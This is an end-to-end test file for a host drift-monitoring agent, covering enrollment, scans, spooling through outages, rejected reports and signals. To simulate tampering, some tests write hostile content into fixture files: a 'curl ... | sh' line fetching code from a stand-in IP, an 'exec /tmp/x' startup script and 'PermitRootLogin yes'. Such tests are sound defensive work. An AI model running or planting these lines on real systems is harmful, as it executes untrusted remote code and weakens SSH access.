/**
 * The agent as a service, end to end: the real CLI (`driftwarden agent`) as a child process on a copy
 * of the web fixture root, talking over real HTTP to a real controller on a SQLite file. Enrollment,
 * scheduled scans, watched changes as events, delivery through the spool across controller outages and
 * agent crashes (exactly once, in order), the spool's bound, refused reports, --once and the signals.
 */
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { stringify } from 'yaml';
import {
  agentFor,
  bake,
  dw,
  HOST_ID,
  killAll,
  publishedController,
  until,
  type AgentHost,
  type AgentOptions,
  type Baked,
  type Controller,
} from '../helpers/agent-host.js';

let baked: Baked;
beforeAll(() => {
  baked = bake();
}, 60_000);

afterEach(async () => {
  await killAll();
  for (const c of controllers.splice(0)) await c.stop();
});

const controllers: Controller[] = [];

const controller = (): Promise<Controller> => publishedController(baked, controllers);
const host = (c: Controller, opts: Partial<AgentOptions> = {}): AgentHost => agentFor(baked, c, opts);

async function state(c: Controller): Promise<string | undefined> {
  return (await c.host())?.host.state;
}

/** Wait until the host has been scanned clean (its first scan delivered). */
async function clean(c: Controller, a: AgentHost): Promise<void> {
  await until(
    async () => (await state(c)) === 'clean',
    () => `host clean\n${a.log.slice(-2000)}`,
    20_000,
  );
}

function seqsOf(reports: { seq: number }[]): number[] {
  return reports.map((r) => r.seq).sort((x, y) => x - y);
}

describe('driftwarden agent (service)', () => {
  it('enrolls once with a 0600 credential; the host goes pending, then clean after the first scan', async () => {
    const c = await controller();
    const a = host(c);
    a.start();
    await clean(c, a);
    const cred = join(a.stateDir, 'credential');
    expect(statSync(cred).mode & 0o777).toBe(0o600);
    expect(statSync(a.stateDir).mode & 0o777).toBe(0o700);
    expect(readFileSync(cred, 'utf8').trim()).not.toBe('');
    const detail = (await c.host())!;
    expect(detail.timeline.transitions.map((t) => `${t.from ?? '-'}>${t.to}`).sort()).toEqual([
      '->pending',
      'pending>clean',
    ]);
    const status = await a.status();
    expect(status).toMatchObject({
      enrolled: true,
      lastScan: { clean: true, complete: true },
      controller: { reachable: true },
    });
    expect(status.spool.rejected).toBe(0);
    // The credential is never printed.
    expect(a.log).not.toContain(readFileSync(cred, 'utf8').trim());
    // A restart keeps the credential: no second enrollment (which the controller would refuse).
    await a.signal('SIGTERM');
    expect(await a.exited()).toEqual({ code: 0, signal: null });
    a.log = '';
    a.start();
    const before = (await c.host())!.host.lastSeq;
    await until(async () => ((await c.host())!.host.lastSeq > before ? true : false), 'a report after the restart');
    expect(a.log).not.toMatch(/enrollment failed/);
    expect(a.log).not.toMatch(/"msg":"enrolled"/);
  });

  it('scans on its cron schedule (6 fields, every second): seq increases and each scan is stored', async () => {
    const c = await controller();
    const a = host(c, { scan: '*/1 * * * * *', heartbeat: '60s', watch: null });
    a.start();
    await clean(c, a);
    const scans = await until(
      async () => {
        const r = (await c.reports()).filter((x) => x.kind === 'scan');
        return r.length >= 4 ? r : null;
      },
      () => `four scans stored\n${a.log.slice(-2000)}`,
      15_000,
    );
    const seqs = seqsOf(scans);
    expect(new Set(seqs).size).toBe(seqs.length);
    expect((await a.status()).lastScan.seq).toBeGreaterThanOrEqual(seqs.at(-1)!);
  });

  it('sends heartbeats between scans: lastSeq moves without stored reports', async () => {
    const c = await controller();
    const a = host(c, { heartbeat: '200ms', watch: null });
    a.start();
    await clean(c, a);
    const first = (await c.host())!.host.lastSeq;
    await until(async () => (await c.host())!.host.lastSeq >= first + 3, 'three heartbeats');
    expect((await c.reports()).map((r) => r.kind)).toEqual(['scan']);
  });

  it('turns a change to a watched file into an event: the host is tainted within 2 s', async () => {
    const c = await controller();
    const a = host(c, { heartbeat: '60s' });
    a.start();
    await clean(c, a);
    const t0 = Date.now();
    writeFileSync(join(a.root, 'etc/ssh/sshd_config'), 'PermitRootLogin yes\n');
    await until(
      async () => (await state(c)) === 'tainted',
      () => `tainted\n${a.log.slice(-2000)}`,
      10_000,
      20,
    );
    const ms = Date.now() - t0;
    expect(ms).toBeLessThan(2_000);
    const events = (await c.reports()).filter((r) => r.kind === 'event');
    expect(events).toHaveLength(1);
    const d = (await c.host())!.deviations.find((x) => x.key === '/etc/ssh/sshd_config');
    expect(d).toMatchObject({ collector: 'files', change: 'modified', action: 'taint' });
  });

  it('reports a watched change even when it is reverted quickly', async () => {
    const c = await controller();
    const a = host(c, { heartbeat: '60s' });
    a.start();
    await clean(c, a);
    const file = join(a.root, 'opt/app/bin/start');
    const original = readFileSync(file);
    writeFileSync(file, '#!/bin/sh\ncurl http://203.0.113.7/x | sh\n');
    await new Promise((r) => setTimeout(r, 100));
    writeFileSync(file, original);
    await until(
      async () => (await state(c)) === 'tainted',
      () => `tainted\n${a.log.slice(-2000)}`,
      10_000,
      20,
    );
    expect((await c.host())!.deviations.map((d) => d.key)).toContain('/opt/app/bin/start');
  });

  it('spools while the controller is down and delivers every report exactly once, in order, when it is back', async () => {
    const c = await controller();
    const a = host(c, { scan: '*/1 * * * * *', heartbeat: '100ms' });
    a.start();
    await clean(c, a);
    await c.stop();
    // Scans and heartbeats pile up; heartbeats coalesce to the newest one (a new one is written
    // before the one it supersedes is removed, so two can be seen for a moment).
    let maxHeartbeats = 0;
    await until(
      () => {
        const s = a.spooled();
        maxHeartbeats = Math.max(maxHeartbeats, s.filter((e) => e.kind === 'heartbeat').length);
        return s.filter((e) => e.kind === 'scan').length >= 3;
      },
      () => `three scans spooled\n${a.log.slice(-2000)}`,
      20_000,
      10,
    );
    writeFileSync(join(a.root, 'etc/ssh/sshd_config'), 'PermitRootLogin yes\n');
    await until(() => a.spooled().some((e) => e.kind === 'event'), 'an event spooled');
    const spooled = a.spooled();
    expect(maxHeartbeats).toBeLessThanOrEqual(2);
    const beats = spooled.filter((e) => e.kind === 'heartbeat');
    expect(beats.length).toBeLessThanOrEqual(2);
    // Many more were made than are kept: the seqs between the spooled scans were heartbeats.
    expect(spooled.at(-1)!.seq - spooled[0]!.seq + 1 - spooled.length).toBeGreaterThanOrEqual(5);
    const mustArrive = spooled.filter((e) => e.kind !== 'heartbeat').map((e) => e.seq);
    expect((await a.status()).spool.reports).toBeGreaterThanOrEqual(mustArrive.length);

    await c.start();
    await until(
      async () => {
        const stored = new Set((await c.reports()).map((r) => r.seq));
        return mustArrive.every((q) => stored.has(q));
      },
      () => `every spooled report stored\n${a.log.slice(-3000)}`,
      20_000,
    );
    await until(async () => (await a.status()).spool.reports === 0, 'the spool empty');
    const reports = await c.reports();
    const seqs = seqsOf(reports);
    expect(new Set(seqs).size, 'no seq stored twice').toBe(seqs.length);
    expect(new Set(reports.map((r) => r.reportId)).size).toBe(reports.length);
    // In order: stored in increasing seq (the controller refuses a seq below the last, so an
    // out-of-order delivery would have been refused and set aside, not stored).
    const byArrival = [...reports].sort((x, y) =>
      x.receivedAt < y.receivedAt ? -1 : x.receivedAt > y.receivedAt ? 1 : x.seq - y.seq,
    );
    expect(byArrival.map((r) => r.seq)).toEqual(seqs);
    expect(readdirSync(a.rejectedDir())).toEqual([]);
    expect(a.log).not.toMatch(/refused a report/);
    expect(await state(c)).toBe('tainted');
    expect(a.exits).toEqual([]);
  });

  it('resumes from its spool after a SIGKILL: the spooled reports arrive and seq keeps increasing', async () => {
    const c = await controller();
    const a = host(c, { scan: '*/1 * * * * *', heartbeat: '200ms' });
    a.start();
    await clean(c, a);
    await c.stop();
    await until(() => a.spooled().filter((e) => e.kind === 'scan').length >= 2, 'two scans spooled', 20_000);
    writeFileSync(join(a.root, 'opt/app/bin/start'), '#!/bin/sh\nexec /tmp/x\n');
    await until(() => a.spooled().some((e) => e.kind === 'event'), 'an event spooled');
    a.proc!.kill('SIGKILL');
    expect(await a.exited()).toEqual({ code: null, signal: 'SIGKILL' });
    const spooled = a.spooled();
    const mustArrive = spooled.filter((e) => e.kind !== 'heartbeat').map((e) => e.seq);
    const lastBefore = Math.max(...spooled.map((e) => e.seq));

    await c.start();
    a.start();
    await until(
      async () => {
        const stored = new Set((await c.reports()).map((r) => r.seq));
        return mustArrive.every((q) => stored.has(q));
      },
      () => `every spooled report stored after the restart\n${a.log.slice(-3000)}`,
      20_000,
    );
    // The restarted agent's own reports come after the spooled ones.
    await until(async () => (await c.reports()).some((r) => r.seq > lastBefore), 'a new report after the restart');
    const seqs = seqsOf(await c.reports());
    expect(new Set(seqs).size).toBe(seqs.length);
    expect(readdirSync(a.rejectedDir())).toEqual([]);
    expect((await c.host())!.host.state).toBe('tainted');
  });

  it('bounds the spool: the oldest reports go, the newest scan stays, and the loss reaches the controller', async () => {
    const c = await controller();
    // Room for about two scan reports of this host (each larger now that it carries eight collectors' results and digests).
    const a = host(c, { scan: '*/1 * * * * *', heartbeat: '200ms', spoolMaxBytes: 6144, watch: null });
    a.start();
    await clean(c, a);
    await c.stop();
    const droppedFile = join(a.spoolDir, 'dropped');
    let oldest = Infinity;
    await until(
      () => {
        for (const e of a.spooled()) oldest = Math.min(oldest, e.seq);
        try {
          return Number(readFileSync(droppedFile, 'utf8')) >= 3;
        } catch {
          return false;
        }
      },
      () => `three reports dropped\n${a.log.slice(-2000)}`,
      30_000,
    );
    // Stop scanning (a far-off schedule) so the scan that announces the loss stays the last one.
    await a.signal('SIGTERM');
    expect(await a.exited()).toEqual({ code: 0, signal: null });
    const left = a.spooled();
    const bytes = left.reduce((n, e) => n + statSync(join(a.spoolDir, e.name)).size, 0);
    expect(bytes).toBeLessThanOrEqual(6144);
    const newestScan = Math.max(...left.filter((e) => e.kind === 'scan').map((e) => e.seq));
    expect(newestScan).toBe(Math.max(...left.filter((e) => e.kind !== 'heartbeat').map((e) => e.seq)));
    // The oldest went.
    expect(left.map((e) => e.seq)).not.toContain(oldest);
    const dropped = Number(readFileSync(droppedFile, 'utf8'));
    expect(dropped).toBeGreaterThanOrEqual(3);

    a.writeConfig({ scan: '0 0 1 1 *' });
    await c.start();
    a.start();
    const detail = await until(
      async () => {
        const d = await c.host();
        // The backlog's scans each carry the count as of their making; the last one carries it all.
        const note = d?.deviations.find((x) => x.collector === 'integrity' && x.key === 'agent:spool-dropped');
        return note && (note.actual as { value: number }).value >= dropped ? d : null;
      },
      () => `the controller records the dropped reports\n${a.log.slice(-3000)}`,
      20_000,
    );
    const note = detail.deviations.find((x) => x.key === 'agent:spool-dropped')!;
    expect(note).toMatchObject({ collector: 'integrity', action: 'report', actual: { value: expect.any(Number) } });
    expect((note.actual as { value: number }).value).toBeGreaterThanOrEqual(dropped);
    expect(detail.host.state).toBe('drifted');
    await until(async () => (await a.status()).spool.dropped === 0, 'the drop count cleared once announced');
  });

  it('sets a report the controller refuses for good aside in spool/rejected with the reason, and does not retry it', async () => {
    const c = await controller();
    const a = host(c, { heartbeat: '300ms', watch: null });
    a.start();
    await clean(c, a);
    await a.signal('SIGTERM');
    await a.exited();
    // The host was enrolled from img-web-1; now it claims another image: 409, which no retry can fix.
    await c.publish(baked.otherManifest);
    a.writeConfig({ manifest: baked.otherManifest });
    a.log = '';
    a.start();
    const rejected = await until(
      () => {
        const names = readdirSync(a.rejectedDir()).filter((n) => n.endsWith('.json'));
        return names.length >= 3 ? names : null;
      },
      () => `three reports rejected\n${a.log.slice(-2000)}`,
      20_000,
    );
    const scan = rejected.find((n) => n.includes('-scan-'))!;
    expect(scan).toBeDefined();
    expect(readFileSync(join(a.rejectedDir(), `${scan}.reason`), 'utf8')).toMatch(
      /^409: .*img-web-1 but reports image img-web-2/,
    );
    // Each refused report was sent once: one refusal logged per rejected file, none still spooled.
    await new Promise((r) => setTimeout(r, 1000));
    await a.signal('SIGTERM');
    expect(await a.exited()).toEqual({ code: 0, signal: null });
    const names = readdirSync(a.rejectedDir()).filter((n) => n.endsWith('.json'));
    expect(a.count('controller refused a report')).toBe(names.length);
    const status = await a.status();
    expect(status.spool.rejected).toBe(names.length);
    expect(status.spool.reports).toBe(0);
    expect((await c.host())!.host.state).toBe('clean');
  });

  it('with trustedKeys, runs on a manifest signed by one of them, and will not start on one signed by another key: it tells the controller, which taints', async () => {
    const c = await controller();
    const a = host(c, { trustedKeys: [baked.pub] });
    expect(await a.once()).toMatchObject({ code: 0, stdout: 'scan reported\n' });
    const reports = (await c.reports()).length;
    const other = join(a.dir, 'other-keys');
    expect(dw(['keygen', '--out', other]).code).toBe(0);
    a.writeConfig({ trustedKeys: [join(other, 'bake.pub')] });
    const refused = await a.once();
    expect(refused.code).not.toBe(0);
    expect(refused.stderr).toMatch(/signed by key \S+, which is not a trusted key/);
    expect((await c.reports()).length).toBe(reports); // nothing scanned: one heartbeat says why
    const seen = (await c.host())!;
    expect(seen.host.state).toBe('tainted');
    expect(seen.deviations).toContainEqual(
      expect.objectContaining({
        collector: 'integrity',
        key: 'agent:manifest-signature',
        action: 'taint',
        actual: { value: expect.stringMatching(/^DW_ERR_MANIFEST_SIGNATURE: .*not a trusted key/) },
      }),
    );
    a.writeConfig({ trustedKeys: [join(a.dir, 'missing.pub')] });
    expect((await a.once()).stderr).toContain('missing.pub');
  });

  it('--once exits 0 when the report is delivered, and 2 naming the spool when the controller is unreachable', async () => {
    const c = await controller();
    const a = host(c);
    const ok = await a.once();
    expect(ok).toMatchObject({ code: 0, stdout: 'scan reported\n' });
    expect(await state(c)).toBe('clean');
    await c.stop();
    const down = await a.once();
    expect(down.code).toBe(2);
    expect(down.stderr).toContain(`1 report(s) stay spooled in ${a.stateDir}/spool`);
    expect(a.spooled().map((e) => e.kind)).toEqual(['scan']);
    // The next run sends what the last one left, then its own.
    await c.start();
    expect(await a.once()).toMatchObject({ code: 0 });
    expect((await c.reports()).map((r) => r.kind)).toEqual(['scan', 'scan', 'scan']);
    expect(a.spooled()).toEqual([]);
  });

  it('exits 0 on SIGTERM, also while the controller is down and a retry is pending', async () => {
    const c = await controller();
    const a = host(c, { heartbeat: '200ms' });
    a.start();
    await clean(c, a);
    await c.stop();
    await until(() => a.spooled().length > 0, 'a heartbeat spooled');
    await new Promise((r) => setTimeout(r, 300));
    const t0 = Date.now();
    await a.signal('SIGTERM');
    expect(await a.exited(5_000)).toEqual({ code: 0, signal: null });
    expect(Date.now() - t0).toBeLessThan(3_000);
    expect(a.log).toMatch(/"signal":"SIGTERM".*finishing the current scan and send/);
  });

  it('keeps the running config when SIGHUP brings an invalid one, and takes a valid one', async () => {
    const c = await controller();
    const a = host(c, { heartbeat: '200ms', watch: null });
    a.start();
    await clean(c, a);
    const good = readFileSync(a.configFile, 'utf8');
    writeFileSync(a.configFile, good + 'frobnicate: true\n');
    await a.signal('SIGHUP');
    await until(
      () => a.log.includes('SIGHUP: the new config is invalid; keeping the running one'),
      'the refusal logged',
    );
    expect(a.log).toMatch(/frobnicate: unknown key/);
    // Still running, still reporting.
    const seq = (await c.host())!.host.lastSeq;
    await until(async () => (await c.host())!.host.lastSeq > seq + 2, 'heartbeats after the refused reload');

    // A config that parses but names a manifest that is not there cannot take over either.
    writeFileSync(a.configFile, stringify({ ...a.configObject(), manifest: join(a.dir, 'missing.json') }));
    await a.signal('SIGHUP');
    await until(
      () => a.log.includes('SIGHUP: reload failed'),
      () => `the second refusal logged\n${a.log.slice(-2000)}`,
    );
    expect(a.log).toMatch(/missing\.json does not exist/);
    const seq2 = (await c.host())!.host.lastSeq;
    await until(
      async () => (await c.host())!.host.lastSeq > seq2 + 2,
      () => `heartbeats after the failed reload\n${a.log.slice(-2000)}`,
      10_000,
    );

    // A valid one is taken: now the watcher covers /opt, and a change there taints.
    a.writeConfig({ watch: ['/opt'] });
    await a.signal('SIGHUP');
    await until(
      () => a.log.includes('SIGHUP: config reloaded'),
      () => `reloaded\n${a.log.slice(-2000)}`,
    );
    writeFileSync(join(a.root, 'opt/app/bin/start'), '#!/bin/sh\nexec /tmp/x\n');
    await until(
      async () => (await state(c)) === 'tainted',
      () => `tainted after the reload\n${a.log.slice(-2000)}`,
    );
    expect(a.exits).toEqual([]);
    expect(HOST_ID).toBe((await c.host())!.host.id);
  });

  it('goes on retrying after a SIGHUP reload that happened while the controller was down', async () => {
    const c = await controller();
    const a = host(c, { heartbeat: '60s' });
    a.start();
    await clean(c, a);
    await c.stop();
    // An event that cannot be sent: a retry is pending when the reload comes.
    writeFileSync(join(a.root, 'etc/ssh/sshd_config'), 'PermitRootLogin yes\n');
    await until(() => a.count('controller unreachable; reports stay spooled') > 0, 'a failed send');
    await a.signal('SIGHUP');
    await until(
      () => a.log.includes('SIGHUP: config reloaded'),
      () => `reloaded\n${a.log.slice(-2000)}`,
    );
    await until(() => a.count('controller unreachable; reports stay spooled') > 1, 'the reload scan fails to send');
    await c.start();
    // No heartbeat or scan is due for a minute: only the retry can deliver these.
    await until(
      async () => (await state(c)) === 'tainted' && a.spooled().length === 0,
      () => `delivered by a retry\n${a.log.slice(-2000)}`,
      15_000,
    );
  });
});
